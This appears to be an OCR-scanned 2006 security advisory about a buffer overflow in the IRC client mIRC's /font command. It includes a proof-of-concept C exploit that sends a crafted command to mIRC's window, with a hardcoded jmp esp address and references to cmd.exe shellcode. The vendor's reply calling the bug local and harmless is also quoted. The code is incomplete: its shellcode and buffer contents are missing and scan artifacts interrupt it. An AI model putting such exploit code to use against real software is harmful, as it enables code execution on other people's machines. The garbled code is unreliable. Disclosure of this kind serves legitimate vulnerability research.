Buffer Overflow /Font on mIRC Jan 24 2006 11:24AM
Crowdat Kurobudetsu (crowdat gmail com)
- 1 - Introduction

Written by Khaled Mardam-Bey, mIRC is a friendly IRC client that is
well equipped with options and tools.

- 2 - Vulnerability description

This bug was discovered by a friend (Racy) , with the command exposed
by Racy only hung mIRC, but after debugging and

testing, I discover that allow code execution.
Racy use this command /font -z $readini(c:\a\a.ini,aaaaaaa ,aaaa)
$readini(c:\a\a.ini,aaaaaaa ,aaaa) , in both cases return

null and crash, if the first parameter it's null and the second a long
string can overwrite the EIP and execute code, with

user privileges, DON'T ELEVATE PRIVILEGES.

- 3 - How to exploit it

This PoC open a cmd.exe,also it's possible execute any other code.

--- CUT HERE ---

This PoC it's for XP SP2 English
Special thanks to Racy from irc-hispano#include <stdio.h>
#include <stdlib.h>
#include <windows.h>

int main () {
HWND lHandle;
char command[512]= "/font -z $null";
char strClass[30];
char buffer[128]=

char shellcode[999]=

//Shellcode system("cmd.exe"), system in \xc7\x93\xc2\x77 0x77c293c7
(WinXP Sp2 English)

char saltaoffset[]="\xD6\xD1\xE5\x77"; // jmp esp 0x77E5D1D6 (advapi32.dll)

lHandle =FindWindowEx(FindWindowEx(FindWindowEx(FindWindow("mIRC",
NULL), 0, "MDIClient", 0),0, "mIRC_Status", 0), 0, "Edit

", 0);

if (!lHandle) { printf("Can't find mIRC\n"); return 0; }

printf("mIRC Font Command Exploit: %s\n", command);

SendMessage(lHandle, WM_SETTEXT,0,(LPARAM)command);
SendMessage (lHandle, WM_IME_KEYDOWN, VK_RETURN, 0);

--- CUT HERE ---

- 4 - Solution

Khaled contacted with me about the latest advisory, he says don't have
any bug, any vulnerability.
This is the solution of Khaled:
"as far as I can tell, this is neither an exploit nor a vulnerability.
The above report describes a local bug in mIRC. The

author of the report indicates that any malicious software on your
computer can modify your mIRC settings to cause mIRC to

crash. But if you have malicious software on yourcomputer, you've
already compromised your security..."

I post a response in the messageboard in mIRC forum, telling that a
exploit isn't a malicious software alone, isn't a trojan

or virus, and if a application it's secure, it's impossibly to execute
any code,the user don't compromise the machine if

download a exploit, the machine it's compromised if the program it'svulnerable to the exploit, but Khaled delete it and

close the thread.

More info: http://trout.snt.utwente.nl/ubbthreads/showflat.php?Cat=0&Number=146129&

- 5 - Credits

URL Vendor: www.mirc.com
Author: Jordi Corrales ( crowdat[at]gmail.com )
Date: 24/01/2006

Racy post onmessageboard:
Spanish Advisory and Compiled Spanish Exploit:

[ reply ]


Privacy StatementCopyright 2010, SecurityFocus